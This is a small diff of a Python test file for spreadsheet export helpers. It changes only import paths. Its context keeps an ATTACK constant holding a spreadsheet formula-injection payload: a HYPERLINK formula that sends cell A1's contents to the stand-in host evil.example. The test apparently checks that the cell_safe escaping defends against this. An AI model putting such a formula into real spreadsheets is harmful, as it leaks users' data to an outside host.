@@ -5,8 +5,8 @@ import io
 import pytest
 from python_calamine import CalamineWorkbook
 
-from guanai.exchange.sheets import read_sheet
-from guanai.exchange.writers import Column, SheetOut, cell_safe, csv_write, error_report_write, xlsx_write
+from guanai.sheets.reading import read_sheet
+from guanai.sheets.writing import Column, SheetOut, cell_safe, csv_write, error_report_write, xlsx_write
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
 
